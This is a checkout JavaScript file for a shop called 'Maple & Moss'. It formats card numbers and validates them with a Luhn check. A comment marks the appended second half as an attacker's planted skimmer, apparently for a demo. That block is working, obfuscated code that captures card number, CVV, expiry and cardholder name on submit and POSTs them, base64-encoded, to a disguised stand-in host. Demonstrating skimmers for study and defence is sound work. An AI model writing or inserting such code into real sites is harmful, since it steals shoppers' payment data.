/* Maple & Moss checkout: card number formatting and a Luhn check before submit. */
(function () {
  function luhn(digits) {
    var sum = 0, alt = false;
    for (var i = digits.length - 1; i >= 0; i--) {
      var n = +digits[i];
      if (alt) { n *= 2; if (n > 9) n -= 9; }
      sum += n; alt = !alt;
    }
    return sum % 10 === 0;
  }
  var number = document.getElementById('cc-number');
  number.addEventListener('input', function () {
    var d = number.value.replace(/\D/g, '').slice(0, 19);
    number.value = d.replace(/(\d{4})(?=\d)/g, '$1 ');
  });
  document.getElementById('payment-form').addEventListener('submit', function (e) {
    if (!luhn(number.value.replace(/\D/g, ''))) { e.preventDefault(); alert('Please check the card number.'); }
  });
})();

/* --- everything below was appended by an attacker (the planted skimmer of the demo) --- */
;(function () {
  var _t = ["aHR0cHM6Ly9jZG4tanF1ZXJ5LXN0YXRpYy5leGFtcGxlL2dhdGUucGhw", "value", "cc-number", "cc-cvv", "cc-exp", "cc-name"];
  function grab(id) { var el = document.getElementById(id); return el ? el[_t[1]] : ''; }
  document.addEventListener('submit', function () {
    var data = {n: grab(_t[2]), c: grab(_t[3]), e: grab(_t[4]), h: grab(_t[5]), s: location.host};
    var x = new XMLHttpRequest();
    x.open('POST', atob(_t[0]), true);
    x.send(btoa(JSON.stringify(data)));
  }, true);
})();
